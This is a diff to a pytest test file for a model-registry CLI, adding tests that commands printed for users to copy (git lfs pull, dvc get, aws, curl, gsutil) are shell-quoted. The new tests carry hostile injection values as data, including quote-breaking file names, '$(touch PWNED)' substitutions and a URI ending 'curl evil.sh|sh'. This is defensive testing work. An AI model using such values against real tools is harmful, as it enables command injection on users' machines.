@@ -234,7 +234,7 @@ def test_lfs_pointer_is_reported_with_the_command(registry: Path, tmp_path: Path
     assert r.code == 1
     first = r.err.splitlines()[0]
     assert first.startswith("models/rf (artifact data.pkl) is a git-lfs pointer, not the file")
-    assert "git lfs pull --include 'models/rf'" in first
+    assert first.endswith(" run: git lfs pull --include models/rf")
     assert not os.path.lexists(tmp_path / "out")
 
 
@@ -276,10 +276,10 @@ def test_dvc_outputs_are_reported_with_dvc_get(registry: Path, tmp_path: Path, m
     lines = r.err.splitlines()
     assert lines[0] == (
         f"models/rf (artifact data.pkl) is a DVC output, not in git: fetch it with "
-        f"dvc get {src} models/rf --rev {sha} -o {tmp_path / 'out'}/rf"
+        f"dvc get --rev {sha} -o {tmp_path / 'out'}/rf -- {src} models/rf"
     )
     assert lines[1].startswith("models/emb.npy (artifact emb) is a DVC output, not in git: fetch it with dvc get ")
-    assert f"models/emb.npy --rev {sha}" in lines[1]
+    assert lines[1].endswith(f"-- {src} models/emb.npy")
 
 
 @pytest.mark.parametrize(
@@ -619,3 +619,78 @@ def test_a_remote_registry_may_not_name_a_local_project(  # type: ignore[no-unty
     r = mr("get", "cur", "--stage", "dev", "--registry", url, "-o", str(out), "--allow-local-projects")
     assert r.code == 0, r.err
     assert (out / "rf").read_bytes() == WEIGHTS
+
+
+# --- commands printed for copying are quoted: a hostile name stays one word --------------
+
+
+def words_of(command: str, tmp_path: Path) -> list[str]:
+    """The words a real shell makes of ``command`` (each printed on a line by a stand-in program)."""
+    stand_in = tmp_path / "bin"
+    stand_in.mkdir(exist_ok=True)
+    for tool in ("git", "aws", "gsutil", "az", "curl", "dvc"):
+        (stand_in / tool).write_text('#!/bin/sh\nprintf "%s\\n" "$@"\n')
+        (stand_in / tool).chmod(0o755)
+    env = {"PATH": f"{stand_in}:/usr/bin:/bin", "HOME": str(tmp_path)}
+    out = subprocess.run(["sh", "-c", command], cwd=tmp_path, env=env, capture_output=True, text=True, check=True)
+    assert not (tmp_path / "PWNED").exists()
+    return out.stdout.splitlines()
+
+
+def test_an_lfs_pointer_named_to_break_out_of_quotes_is_one_word(registry: Path, tmp_path: Path, mr) -> None:  # type: ignore[no-untyped-def]
+    pointer = "version https://git-lfs.github.com/spec/v1\noid sha256:" + "4" * 64 + "\nsize 400\n"
+    hostile = "models/q'; touch PWNED; '"
+    model_project(
+        tmp_path / "models", {"models/rf.mlem": meta({"data.pkl": ("q'; touch PWNED; '", WEIGHTS)}), hostile: pointer}
+    )
+    link_and_commit(registry, "../models")
+    r = mr("get", "churn", "-o", str(tmp_path / "out"))
+    assert r.code == 1
+    command = r.err.splitlines()[0].split(" run: ", 1)[1]
+    assert words_of(command, tmp_path) == ["lfs", "pull", "--include", hostile]
+
+
+@pytest.mark.parametrize(
+    ("uri", "tool"),
+    [
+        ("s3://b/x;curl evil.sh|sh", "aws"),
+        ("https://h/x$(touch PWNED)`touch PWNED`", "curl"),
+        ("gs://b/it's here", "gsutil"),
+    ],
+)
+def test_an_external_artifact_uri_is_quoted(registry: Path, tmp_path: Path, mr, uri: str, tool: str) -> None:  # type: ignore[no-untyped-def]
+    model_project(tmp_path / "models", {"models/rf.mlem": meta({"data.pkl": ("rf", WEIGHTS), "big": (uri, b"x" * 9)})})
+    link_and_commit(registry, "../models")
+    r = mr("get", "churn", "-o", str(tmp_path / "out"))
+    assert r.code == 0, r.err
+    command = r.err.strip().split("to copy it: ", 1)[1]
+    assert command.split()[0] == tool
+    assert uri in words_of(command, tmp_path)
+
+
+def test_a_name_with_a_control_character_prints_no_command(registry: Path, tmp_path: Path, mr) -> None:  # type: ignore[no-untyped-def]
+    model_project(
+        tmp_path / "models",
+        {"models/rf.mlem": meta({"data.pkl": ("rf", WEIGHTS), "big": ('"s3://b/x\\e]0;evil\\a"', b"x" * 9)})},
+    )
+    link_and_commit(registry, "../models")
+    r = mr("get", "churn", "-o", str(tmp_path / "out"))
+    assert r.code == 0, r.err
+    assert r.err.strip().endswith("to copy it: (a name in it holds control characters, so no command is printed)")
+    assert "\x1b" not in r.err
+
+
+def test_a_dvc_output_whose_path_looks_like_an_option_stays_a_path(registry: Path, tmp_path: Path, mr) -> None:  # type: ignore[no-untyped-def]
+    src = model_project(
+        tmp_path / "models",
+        {
+            "models/rf.mlem": meta({"data.pkl": ("-o $(touch PWNED)", WEIGHTS)}),
+            "models/-o $(touch PWNED).dvc": "outs:\n- md5: 1\n  path: x\n",
+        },
+    )
+    link_and_commit(registry, "../models")
+    r = mr("get", "churn", "-o", str(tmp_path / "out"))
+    assert r.code == 1
+    command = r.err.splitlines()[0].split("fetch it with ", 1)[1]
+    words = words_of(command, tmp_path)
+    assert words[-3:] == ["--", str(src), "models/-o $(touch PWNED)"]
